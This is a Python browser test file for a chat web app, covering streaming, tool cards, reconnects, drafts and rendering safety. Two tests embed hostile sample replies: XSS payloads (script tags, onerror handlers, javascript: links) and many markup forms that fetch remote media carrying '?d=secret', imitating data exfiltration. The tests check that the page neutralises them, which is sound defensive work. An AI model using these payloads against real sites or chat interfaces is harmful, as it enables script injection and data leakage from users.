"""The chat in a real browser: streaming, tool cards, reload mid-reply, stop, draft, safety."""

import http.server
import json
import threading
from typing import ClassVar

import pytest
from playwright.sync_api import Dialog, Page, expect

from conversations import services
from conversations.models import Message, Run
from tests.support.browser import Stack, record_assistant_states, send, wait_idle
from tests.support.fake_openai import Script
from tests.support.waiting import wait_until

pytestmark = pytest.mark.django_db(transaction=True)

STORY = "".join(f"word{i} " for i in range(60)).strip()


def stored_reply(run: Run) -> Message:
    return Message.objects.filter(run=run, role="assistant").order_by("-seq")[0]


def test_a_reply_streams_into_the_page_and_ends_equal_to_the_stored_message(
    chat_page: Page, stack: Stack, owner
):
    stack.fake.push(Script(text=STORY, tokens_per_second=60))
    chat_page.goto("/chat/")
    record_assistant_states(chat_page)
    send(chat_page, "Tell me a story")

    expect(chat_page.locator("#stop")).to_be_visible()
    expect(chat_page.get_by_label("Message", exact=True)).to_be_disabled()
    wait_idle(chat_page)

    run = Run.objects.get(conversation__owner=owner)
    assert run.status == "completed"
    reply = stored_reply(run)
    shown = chat_page.locator("article.message.assistant .content").last.inner_text()
    assert shown == reply.content == STORY
    states = chat_page.evaluate("window.__states")
    partial = [s for s in states if s and s != STORY]
    assert len(partial) >= 2, states
    # The conversation got its address and its title from the first message.
    assert chat_page.url.endswith(f"/chat/{run.conversation_id}/")
    expect(chat_page.locator("#chat-title")).to_have_text("Tell me a story")
    expect(chat_page.locator(".conversation-item").first).to_contain_text("Tell me a story")
    assert not chat_page.errors  # type: ignore[attr-defined]


def test_a_tool_call_shows_as_a_card_with_name_arguments_and_result(
    chat_page: Page, stack: Stack, owner
):
    stack.fake.push(
        Script(tool_calls=[("call_calc", "calculator", '{"expression": "12*7"}')]),
        Script(tool_calls=[("call_bad", "calculator", '{"expression": "12/0"}')]),
        Script(text="12*7 is 84; 12/0 has no answer."),
    )
    chat_page.goto("/chat/")
    send(chat_page, "What is 12*7 and 12/0?")
    wait_idle(chat_page)

    good = chat_page.locator('.tool-card[data-call-id="call_calc"]')
    expect(good).to_have_attribute("data-state", "done")
    expect(good.locator(".tool-name")).to_have_text("calculator")
    expect(good.locator(".tool-args")).to_contain_text('"expression": "12*7"')
    expect(good.locator(".tool-result")).to_contain_text("84")
    bad = chat_page.locator('.tool-card[data-call-id="call_bad"]')
    expect(bad).to_have_attribute("data-state", "error")
    expect(bad.locator(".tool-state")).to_have_text("failed")
    expect(chat_page.locator("article.message.assistant .content").last).to_have_text(
        "12*7 is 84; 12/0 has no answer."
    )

    # The same cards are drawn from the stored history after a reload.
    chat_page.reload()
    expect(chat_page.locator('.tool-card[data-call-id="call_calc"] .tool-result')).to_contain_text(
        "84"
    )
    expect(chat_page.locator('.tool-card[data-call-id="call_bad"]')).to_have_attribute(
        "data-state", "error"
    )


def test_a_reload_mid_reply_shows_the_reply_so_far_then_the_rest(
    chat_page: Page, stack: Stack, owner
):
    stack.fake.push(Script(text=STORY, tokens_per_second=25))
    chat_page.goto("/chat/")
    send(chat_page, "Tell me a long story")
    chat_page.wait_for_function(
        """() => {
          const c = document.querySelector("article.message.assistant .content");
          return c && c.textContent.includes("word5 ");
        }"""
    )
    chat_page.reload()
    record_assistant_states(chat_page)
    # After the reload: part of the reply at once (replayed), not yet all of it.
    chat_page.wait_for_function(
        """() => {
          const c = document.querySelector("article.message.assistant .content");
          return c && c.textContent.includes("word5 ");
        }"""
    )
    expect(chat_page.locator("#stop")).to_be_visible()
    wait_idle(chat_page)
    run = Run.objects.get(conversation__owner=owner)
    assert run.status == "completed"
    assert chat_page.locator("article.message.assistant .content").all_inner_texts() == [
        stored_reply(run).content
    ]
    assert any(state != STORY for state in chat_page.evaluate("window.__states"))


def test_a_dropped_connection_resumes_the_reply_without_losing_or_doubling_words(
    chat_page: Page, stack: Stack, owner
):
    # Keep a handle on the page's sockets so the test can cut them.
    chat_page.add_init_script(
        """(() => {
          const Native = window.WebSocket;
          window.__sockets = [];
          window.WebSocket = function (...args) {
            const ws = new Native(...args);
            window.__sockets.push(ws);
            return ws;
          };
          window.WebSocket.prototype = Native.prototype;
          Object.assign(window.WebSocket, { CONNECTING: 0, OPEN: 1, CLOSING: 2, CLOSED: 3 });
        })()"""
    )
    stack.fake.push(Script(text=STORY, tokens_per_second=30))
    chat_page.goto("/chat/")
    send(chat_page, "Tell me a story, slowly")
    chat_page.wait_for_function(
        """() => {
          const c = document.querySelector("article.message.assistant .content");
          return c && c.textContent.includes("word3 ");
        }"""
    )
    chat_page.evaluate("window.__sockets.forEach((ws) => ws.close())")
    expect(chat_page.locator("#connection")).to_have_text("Live", timeout=10_000)
    wait_idle(chat_page)
    run = Run.objects.get(conversation__owner=owner)
    assert chat_page.evaluate("window.__sockets.length") >= 2
    assert "run_id=" in chat_page.evaluate("window.__sockets[1].url")
    assert chat_page.locator("article.message.assistant .content").all_inner_texts() == [
        stored_reply(run).content
    ]


def test_stop_ends_the_reply_and_keeps_what_was_written(chat_page: Page, stack: Stack, owner):
    stack.fake.push(Script(text=STORY, tokens_per_second=20))
    chat_page.goto("/chat/")
    send(chat_page, "Tell me a story I will interrupt")
    chat_page.wait_for_function(
        """() => {
          const c = document.querySelector("article.message.assistant .content");
          return c && c.textContent.includes("word2 ");
        }"""
    )
    chat_page.get_by_role("button", name="Stop").click()
    expect(chat_page.locator(".note", has_text="Stopped.")).to_be_visible()
    wait_idle(chat_page)
    expect(chat_page.get_by_label("Message", exact=True)).to_be_enabled()
    run = Run.objects.get(conversation__owner=owner)
    assert run.status == "cancelled"
    reply = stored_reply(run)
    assert reply.content
    assert len(reply.content) < len(STORY)
    shown = chat_page.locator("article.message.assistant .content").last.inner_text()
    # A rendered paragraph shows no trailing space, which a stop between words may leave.
    assert shown == reply.content.rstrip()


def test_a_second_tab_follows_the_conversation_live(chat_page: Page, context, stack: Stack, owner):
    conversation = services.conversation_create(owner=owner, title="Shared")
    other = context.new_page()
    other.goto(f"/chat/{conversation.pk}/")
    expect(other.locator("#connection")).to_have_text("Live")
    stack.fake.push(Script(text=STORY, tokens_per_second=80))
    chat_page.goto(f"/chat/{conversation.pk}/")
    send(chat_page, "Both tabs should see this")
    expect(other.locator("article.message.user .content")).to_have_text("Both tabs should see this")
    expect(other.locator("article.message.assistant .content")).to_have_text(STORY)
    wait_idle(other)


def test_draft_edits_are_saved_and_assistant_changes_appear_live(
    chat_page: Page, stack: Stack, owner
):
    conversation = services.conversation_create(owner=owner, title="Letter")
    chat_page.goto(f"/chat/{conversation.pk}/")
    # Typing at once is fine (the page never overwrites it), but the assistant's change
    # below is only seen live once the socket is up.
    draft = chat_page.get_by_label("Draft text")
    draft.fill("Dear Sam,\nthanks for the visit.")
    chat_page.get_by_role("button", name="Save draft").click()
    expect(chat_page.locator("#draft-status")).to_contain_text("Saved")
    conversation.refresh_from_db()
    assert conversation.draft == "Dear Sam,\nthanks for the visit."
    assert conversation.draft_edited

    expect(chat_page.locator("#connection")).to_have_text("Live", timeout=10_000)

    new_text = "Dear Sam,\nthank you so much for the visit!"
    stack.fake.push(
        Script(tool_calls=[("call_draft", "update_draft", json.dumps({"draft": new_text}))]),
        Script(text="I made it warmer."),
    )
    send(chat_page, "Make the draft warmer")
    expect(draft).to_have_value(new_text)
    expect(chat_page.locator("#draft-status")).to_have_text("Updated by Parley")
    expect(chat_page.locator(".note", has_text="Parley updated the draft.")).to_be_visible()
    # The model was told about the user's edit before it answered.
    sent = stack.fake.requests[0].messages
    assert any("user edited the draft" in str(m.get("content")) for m in sent)


def test_a_draft_saved_while_a_reply_runs_is_kept_and_the_model_is_told(
    chat_page: Page, stack: Stack, owner
):
    model_text = "Dear team, the launch moves to May."
    user_text = "Dear team, the launch stays in April. Thanks for the hard work!"
    conversation = services.conversation_create(owner=owner, title="Launch note")
    chat_page.goto(f"/chat/{conversation.pk}/")
    expect(chat_page.locator("#connection")).to_have_text("Live", timeout=10_000)
    saved = threading.Event()

    def after_the_users_save(index: int, sent_at: float) -> None:
        if index == 0:
            saved.wait(10)

    stack.fake.push(
        # The model has read the (empty) draft; its reply comes once the user has saved.
        Script(
            tool_calls=[("call_draft", "update_draft", json.dumps({"draft": model_text}))],
            on_chunk=after_the_users_save,
        ),
        Script(text="You changed the draft meanwhile, so I kept your version."),
    )
    send(chat_page, f"update the draft to: {model_text}")
    wait_until(lambda: stack.fake.requests, what="the model call", details=stack.logs)
    draft = chat_page.get_by_label("Draft text")
    draft.fill(user_text)
    chat_page.get_by_role("button", name="Save draft").click()
    expect(chat_page.locator("#draft-status")).to_contain_text("Saved")
    saved.set()
    wait_idle(chat_page)

    # The user's words stay in the panel; the tool card says why the model's did not land.
    expect(draft).to_have_value(user_text)
    card = chat_page.locator('.tool-card[data-call-id="call_draft"]')
    expect(card).to_have_attribute("data-state", "error")
    expect(card.locator(".tool-result")).to_contain_text("the user edited the draft")
    expect(chat_page.locator(".note", has_text="Parley updated the draft.")).to_have_count(0)
    # The model read that in the same reply, with the user's text.
    assert any(user_text in str(m.get("content")) for m in stack.fake.requests[1].messages)
    chat_page.reload()
    expect(draft).to_have_value(user_text)

    # The next turn tells the model about the edit, as for any edit.
    expect(chat_page.locator("#connection")).to_have_text("Live", timeout=10_000)
    stack.fake.push(Script(text="It reads well."))
    send(chat_page, "Is it ready to send?")
    wait_idle(chat_page)
    expect(chat_page.get_by_text("You edited the draft; Parley was told.")).to_be_visible()
    notice = f'[user edited the draft to: "{user_text}"]'
    assert {"role": "system", "content": notice} in stack.fake.requests[-1].messages
    assert not chat_page.errors  # type: ignore[attr-defined]


XSS_REPLY = """Here you go:

<script>window.__xss = 1; alert("script")</script>
<img src="x" onerror="window.__xss = 2; alert('img')">
[click me](javascript:window.__xss=3;alert('link'))
<a href="javascript:alert('raw')">raw link</a>
<svg onload="alert('svg')"></svg>
<iframe src="javascript:alert('frame')"></iframe>

**bold stays bold**"""


def test_html_and_script_in_a_reply_are_inert(chat_page: Page, stack: Stack, owner):
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    chat_page.on("dialog", on_dialog)
    stack.fake.push(Script(text=XSS_REPLY, tokens_per_second=400))
    chat_page.goto("/chat/")
    send(chat_page, "Show me some HTML")
    wait_idle(chat_page)
    reply = chat_page.locator("article.message.assistant .content").last
    expect(reply.locator("strong")).to_have_text("bold stays bold")
    chat_page.reload()  # drawn again from history: just as inert
    expect(reply.locator("strong")).to_have_text("bold stays bold")
    chat_page.wait_for_timeout(300)  # an onerror would fire right after the image failed

    assert dialogs == []
    assert chat_page.evaluate("window.__xss") is None
    html = reply.inner_html()
    assert "<script" not in html
    assert "<iframe" not in html
    assert "onerror" not in html
    assert "onload" not in html
    for href in reply.locator("a").evaluate_all("(links) => links.map((a) => a.href)"):
        assert not href.lower().startswith("javascript:")


def test_another_users_conversation_is_not_found(chat_page: Page, outsider):
    theirs = services.conversation_create(owner=outsider, title="Private")
    response = chat_page.goto(f"/chat/{theirs.pk}/")
    assert response is not None
    assert response.status == 404
    expect(chat_page.get_by_role("heading", name="Not found")).to_be_visible()
    assert "Private" not in chat_page.content()


def test_older_messages_load_when_scrolling_up(chat_page: Page, owner):
    conversation = services.conversation_create(owner=owner, title="Long one")
    services.messages_append(
        conversation=conversation,
        messages=[
            services.NewMessage(role="user" if n % 2 else "assistant", content=f"line {n}")
            for n in range(1, 71)
        ],
    )
    chat_page.goto(f"/chat/{conversation.pk}/")
    shown = chat_page.locator("article.message .content")
    expect(shown).to_have_count(50)
    expect(shown.first).to_have_text("line 21")
    chat_page.locator("#messages").evaluate("(box) => { box.scrollTop = 0; }")
    expect(shown).to_have_count(70)
    assert shown.all_inner_texts() == [f"line {n}" for n in range(1, 71)]


def test_conversation_settings_are_edited_in_a_dialog(chat_page: Page, owner):
    conversation = services.conversation_create(owner=owner, title="Tuned")
    chat_page.goto(f"/chat/{conversation.pk}/")
    chat_page.get_by_role("button", name="Settings").click()
    dialog = chat_page.get_by_role("dialog")
    dialog.get_by_label("System prompt").fill("Answer in French.")
    dialog.get_by_label("Model").fill("gpt-test-2")
    dialog.get_by_role("checkbox", name="current_time").uncheck()
    dialog.get_by_role("button", name="Save").click()
    expect(dialog).to_be_hidden()
    conversation.refresh_from_db()
    assert conversation.system_prompt == "Answer in French."
    assert conversation.model == "gpt-test-2"
    assert "current_time" not in conversation.tools
    assert "calculator" in conversation.tools


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Counter.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere():
    """Another origin on this machine that counts what is fetched from it."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _Counter.hits.clear()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_remote_media_in_a_reply_is_never_fetched_but_offered_as_a_link(
    chat_page: Page, stack: Stack, owner, elsewhere
):
    reply = f"""Look:

![leak]({elsewhere}/md?d=secret)
<img src="{elsewhere}/img?d=secret" alt="raw">
<img src="/static/web/app.css" srcset="{elsewhere}/srcset?d=secret 2x">
<picture><source srcset="{elsewhere}/picture?d=secret"><img src="/static/web/app.css"></picture>
<video poster="{elsewhere}/poster?d=secret" src="{elsewhere}/video?d=secret"></video>
<audio><source src="{elsewhere}/audio?d=secret"></audio>
<table background="{elsewhere}/table?d=secret"><tr><td>cell</td></tr></table>
<video src="/static/web/app.css"><track src="{elsewhere}/track?d=secret"></video>
<image src="{elsewhere}/image-tag?d=secret">
<svg><image href="{elsewhere}/svg?d=secret"/></svg>
<input type="image" src="{elsewhere}/input?d=secret">
<p style="background: url({elsewhere}/style?d=secret)">styled</p>
<link rel="stylesheet" href="{elsewhere}/link?d=secret">
<object data="{elsewhere}/object?d=secret"></object><embed src="{elsewhere}/embed?d=secret">
<iframe src="{elsewhere}/iframe?d=secret"></iframe>
<img src="/static/web/favicon.svg" alt="ours">

**done**"""
    requested: list[str] = []
    chat_page.on("request", lambda request: requested.append(request.url))
    stack.fake.push(Script(text=reply, tokens_per_second=400))
    chat_page.goto("/chat/")
    send(chat_page, "Show me pictures")
    wait_idle(chat_page)
    content = chat_page.locator("article.message.assistant .content").last
    expect(content.locator("strong")).to_have_text("done")
    chat_page.reload()  # drawn again from history: the same
    expect(content.locator("strong")).to_have_text("done")
    chat_page.wait_for_timeout(500)

    assert _Counter.hits == []
    assert not [url for url in requested if url.startswith(elsewhere)]
    placeholders = content.locator(".remote-media")
    expect(placeholders).to_have_count(8)
    host = elsewhere.removeprefix("http://")
    expect(placeholders.first).to_contain_text(f"Image from {host}, not loaded (leak)")
    links = placeholders.locator("a")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(links.first).to_have_attribute("target", "_blank")
    hrefs = links.evaluate_all("(links) => links.map((a) => a.href)")
    assert f"{elsewhere}/md?d=secret" in hrefs
    assert all(href.startswith(elsewhere) for href in hrefs)
    # The site's own images still load.
    expect(content.locator('img[alt="ours"]')).to_have_js_property("naturalWidth", 32)
    html = content.inner_html()
    for attribute in ("src=", "srcset=", "poster=", "background="):
        assert f'{attribute}"{elsewhere}' not in html
    policy = chat_page.request.get(f"{stack.url}/chat/").headers["content-security-policy"]
    assert "img-src 'self' blob:;" in policy  # blob: only previews a file being attached
    assert "media-src 'self'" in policy
